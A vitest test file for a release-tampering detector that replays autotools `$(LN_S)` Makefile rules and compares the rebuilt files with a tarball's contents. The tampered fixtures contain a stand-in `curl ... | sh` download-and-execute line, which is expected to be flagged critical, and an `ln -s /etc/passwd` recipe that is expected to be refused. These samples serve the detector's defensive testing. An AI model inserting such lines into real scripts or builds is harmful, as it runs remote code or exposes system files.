/**
 * make-replay of `$(LN_S)` (src/regenerate/make-replay.ts, lnSFromProbe): augeas 1.14.0's tests/Makefile.am makes its
 * 231 tests/lens-*.sh with `$(lens_tests): lens-test-1` / `rm -f $@` / `$(LN_S) $< $@`, and make dist's `tar chof`
 * packs each link as a copy of lens-test-1. LN_S is AC_PROG_LN_S's probe result (`ln -s`, else `ln` or `cp -pR`: all
 * give those bytes), so with a proved configure the rule is replayed as `ln -s` and the target read through the link.
 * The fixture is made by the real autotools (`./configure && make dist` makes the links). Tampered twins: a lens
 * script that differs from its source stays REGENERATION_MISMATCH (high; critical when the edit pipes a download to
 * sh); an ln of an absolute source or onto another name is refused.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/core/findings.js';
import { checkRecipe, configureValues, lnSFromProbe } from '../../src/regenerate/make-replay.js';
import { autotoolsRelease, editFile } from './release.js';

const CONFIGURE_AC = `AC_INIT([demo], [1.0], [bugs@example.invalid])
AM_INIT_AUTOMAKE([foreign])
AC_PROG_LN_S
AC_CONFIG_FILES([Makefile tests/Makefile])
AC_OUTPUT
`;
const TESTS_AM = `lens_tests = lens-alpha.sh lens-beta.sh
EXTRA_DIST = lens-test-1 $(lens_tests)

# augeas' tests/Makefile.am: each lens test is a link to the one runner
$(lens_tests): lens-test-1
	rm -f $@
	$(LN_S) $< $@
`;
const RUNNER = `#! /bin/sh
# Run one lens test, named after this script.
me=\`echo "$0"|sed 's,.*/lens-\\(.*\\)\\.sh$,\\1,'\`
exec augparse "lenses/tests/test_$me.aug"
`;

const rel = autotoolsRelease({
  prefix: 'distdiff-replay-lns-',
  name: 'demo',
  files: {
    'configure.ac': CONFIGURE_AC,
    'Makefile.am': 'SUBDIRS = tests\n',
    'tests/Makefile.am': TESTS_AM,
    'tests/lens-test-1': { content: RUNNER, executable: true },
  },
});
const at = (fs: Finding[], path: string) => fs.find((f) => f.path === path)!;

describe('a $(LN_S) rule replayed', () => {
  it('the dereferenced links are MAKE_RULE_REPLAYED (ln -s, the proved configure an input); the release is clean', async () => {
    expect(readFileSync(join(rel.distDir, rel.top, 'tests/lens-beta.sh'), 'utf8')).toBe(RUNNER);
    const r = await rel.run(rel.tarball);
    for (const path of ['tests/lens-alpha.sh', 'tests/lens-beta.sh']) {
      const f = at(r.findings, path);
      expect(f, path).toMatchObject({
        code: 'MAKE_RULE_REPLAYED',
        severity: 'info',
        evidence: {
          file: 'tests/Makefile.am',
          line: 5,
          dir: 'tests',
          inputs: [
            { path: 'configure', origin: 'regenerated', explainedBy: 'reproduced' },
            { path: 'tests/Makefile.am', origin: 'git' },
            { path: 'tests/lens-test-1', origin: 'git' },
          ],
        },
      });
      if (f.code !== 'MAKE_RULE_REPLAYED') throw new Error('not replayed');
      expect(f.evidence.commands).toEqual([`rm -f ${path.slice(6)}`, `ln -s lens-test-1 ${path.slice(6)}`]);
    }
    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical')).toEqual([]);
  }, 300_000);

  it('a lens script that is not its source stays REGENERATION_MISMATCH (critical: it pipes a download to sh), the line shown', async () => {
    const r = await rel.run(rel.tampered((d) => editFile(d, 'tests/lens-beta.sh', (s) => s.replace('exec augparse', 'curl -s http://example.invalid/x | sh; exec augparse'))));
    const f = at(r.findings, 'tests/lens-beta.sh');
    expect(f.code).toBe('REGENERATION_MISMATCH');
    expect(f.severity).toBe('critical');
    if (f.diff?.kind !== 'text') throw new Error('no text diff');
    expect(f.diff.unified).toContain('+curl -s http://example.invalid/x | sh; exec augparse');
    expect(at(r.findings, 'tests/lens-alpha.sh').code).toBe('MAKE_RULE_REPLAYED');
    expect(r.verdict).toBe('different');
    // an unremarkable edit: high
    const r2 = await rel.run(rel.tampered((d) => editFile(d, 'tests/lens-alpha.sh', (s) => s.replace('exec augparse', 'exec augparse --nostdinc'))));
    expect(at(r2.findings, 'tests/lens-alpha.sh')).toMatchObject({ code: 'REGENERATION_MISMATCH', severity: 'high' });
  }, 300_000);
});

describe('LN_S as configure sets it', () => {
  const PROBE = `ac_subst_vars='LN_S'
if ln -s conf$$.file conf$$ 2>/dev/null; then
    as_ln_s='ln -s'
  else
    as_ln_s='cp -pR'
  fi
elif ln conf$$.file conf$$ 2>/dev/null; then
  as_ln_s=ln
fi
LN_S=$as_ln_s
test -z "$LN_S" && LN_S="ln -s"
`;
  it('AC_PROG_LN_S probe: ln -s; any other assignment makes it computed (no value)', () => {
    expect(lnSFromProbe(PROBE)).toBe(true);
    expect(configureValues(PROBE).values.get('LN_S')).toBe('ln -s');
    expect(lnSFromProbe(`${PROBE}LN_S="$HOME/bin/ln"\n`)).toBe(false);
    expect(lnSFromProbe(PROBE.replace("as_ln_s=ln\n", "as_ln_s='./install-link'\n"))).toBe(false);
    expect(lnSFromProbe("ac_subst_vars='LN_S'\nLN_S='ln -s'\n")).toBe(false);
    expect(configureValues(`${PROBE}LN_S=\`which ln\`\n`).values.has('LN_S')).toBe(false);
  });
  it('ln in a recipe: one relative source onto the target only', () => {
    expect(checkRecipe(['rm -f a.sh', 'ln -s lens-test-1 a.sh'], 'a.sh', () => undefined)).toEqual({ tools: new Set(['ln']), asksGit: false });
    expect(checkRecipe(['ln -s /etc/passwd a.sh'], 'a.sh', () => undefined)).toEqual({ kind: 'command', args: { command: 'ln' } });
    expect(checkRecipe(['ln -s lens-test-1 other.sh'], 'a.sh', () => undefined)).toEqual({ kind: 'command', args: { command: 'ln' } });
    expect(checkRecipe(['ln -t . lens-test-1'], 'a.sh', () => undefined)).toEqual({ kind: 'command', args: { command: 'ln' } });
  });
});
